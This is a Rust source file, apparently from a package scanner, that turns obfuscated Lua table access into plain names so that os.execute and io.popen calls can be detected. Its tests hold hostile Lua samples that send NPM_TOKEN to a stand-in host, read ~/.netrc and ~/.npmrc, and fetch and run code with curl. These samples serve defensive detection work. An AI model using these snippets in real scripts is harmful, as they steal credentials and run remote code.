//! Members of Lua's tables that are asked for by a text stand as those that are asked for by a name: `os["execute"]` as
//! `os.execute`, and `_G.os` as `os`.

use super::lex::{Placed, Token};

/// What runs text: another rule tells of a text that names it.
const LOADS: &[&str] = &["load", "loadstring", "dofile", "loadfile"];

/// What starts programs.
const MEMBERS: &[&str] = &["execute", "popen"];

/// 32 names of such members.
const NAMES: usize = 32;

/// Puts names in for texts, and takes the table of all that is global away.
pub(super) fn apply(tokens: &mut Vec<Placed>) {
    named(tokens);
    let own = renamed(tokens);
    for placed in tokens.iter_mut() {
        if let Token::Name(name) = &mut placed.token
            && let Some((_, member)) = own.iter().find(|(known, _)| known == name)
        {
            name.clone_from(member);
        }
    }
}

/// Names that stand for a member that starts programs: `local run = os.execute`.
fn renamed(tokens: &[Placed]) -> Vec<(String, String)> {
    let found = tokens.windows(6).filter_map(|six| {
        let [local, name, equals, module, dot, member] = six else { return None };
        let (Token::Name(local), Token::Name(name)) = (&local.token, &name.token) else { return None };
        let (Token::Name(module), Token::Name(member)) = (&module.token, &member.token) else { return None };
        let gives = equals.token == Token::Sign('=') && dot.token == Token::Sign('.') && local == "local";
        let starts = matches!(module.as_str(), "os" | "io") && MEMBERS.contains(&member.as_str());
        (gives && starts).then(|| (name.clone(), member.clone()))
    });
    found.take(NAMES).collect()
}

/// `name["member"]` as `name.member`, and `_G.name` as `name`.
fn named(tokens: &mut Vec<Placed>) {
    let mut plain: Vec<Placed> = Vec::with_capacity(tokens.len());
    for placed in std::mem::take(tokens) {
        plain.push(placed);
        names_member(&mut plain);
        without_globals(&mut plain);
    }
    *tokens = plain;
}

/// `name["member"]` at the end as `name.member`.
fn names_member(plain: &mut Vec<Placed>) {
    let [.., owner, open, member, close] = plain.as_slice() else { return };
    let (Token::Name(name), Token::Text(text)) = (&owner.token, &member.token) else { return };
    let is_name = text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        && text.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_');
    let is_told = is_globals(name) && LOADS.contains(&text.as_str());
    if open.token != Token::Sign('[') || close.token != Token::Sign(']') || !is_name || is_told {
        return;
    }
    let (at, open, member) = (member.at, open.at, Token::Name(text.clone()));
    plain.truncate(plain.len().saturating_sub(3));
    plain.extend([Placed { token: Token::Sign('.'), at: open }, Placed { token: member, at }]);
}

/// `_G.name` at the end as `name`.
fn without_globals(plain: &mut Vec<Placed>) {
    let [.., owner, dot, member] = plain.as_slice() else { return };
    let (Token::Name(name), Token::Name(own)) = (&owner.token, &member.token) else { return };
    if is_globals(name) && dot.token == Token::Sign('.') && !LOADS.contains(&own.as_str()) {
        let member = member.clone();
        plain.truncate(plain.len().saturating_sub(3));
        plain.push(member);
    }
}

fn is_globals(name: &str) -> bool {
    matches!(name, "_G" | "_ENV")
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn modules_that_reach_the_network_are_known_by_what_is_required() {
        for text in [
            "local s = require('socket').tcp() s:connect('x.invalid', 80) s:send(os.getenv('NPM_TOKEN'))\nprint('https://x.invalid')",
            "require('socket').dns.toip(os.getenv('NPM_TOKEN') .. '.x.invalid')",
            "local n = ('crten.'):reverse() local f = io.open(os.getenv('HOME') .. '/' .. n) print(f:read('*a'))",
            "io.input(os.getenv('HOME') .. '/.npmrc') print(io.read('*a'))",
            "os.execute('curl -so /tmp/a.lua https://x.invalid/a') dofile('/tmp/a.lua')",
            "os.execute('curl -so /tmp/a https://x.invalid/a')\nos.execute('sh /tmp/a')",
            "local p = io.popen('curl -s https://x.invalid/c')\nos.execute(p:read('*a'))",
        ] {
            assert_eq!(of("lua", "a.lua", text), Some(Severity::Danger), "{text}");
        }
        let honest = "local socket = require('socket')\nprint(socket.gettime())\nos.execute('curl -so /tmp/a.json https://x.invalid/a')\nos.execute('jq . /tmp/a.json')";
        assert!(of("lua", "a.lua", honest).is_none_or(|severity| severity < Severity::Danger));
    }

    #[test]
    fn members_by_texts_are_members_by_names() {
        for text in [
            "local e = os['execute'] e('cat ~/.netrc')",
            "_G['os']['execute']('cat ~/.netrc')",
            "_G.os.execute('cat ~/.netrc')",
            "_ENV['io']['popen']('cat ~/.netrc')",
            "_G['load'](x)",
            "local r = _G[('daol'):reverse()] r(x)",
        ] {
            assert_eq!(of("lua", "a.lua", text), Some(Severity::Danger), "{text}");
        }
        let honest = "local words = { ['execute'] = 'runs' } print(words['execute'], rows[1]['name'], _G['arg'])";
        assert!(of("lua", "a.lua", honest).is_none_or(|severity| severity < Severity::Danger));
    }
}
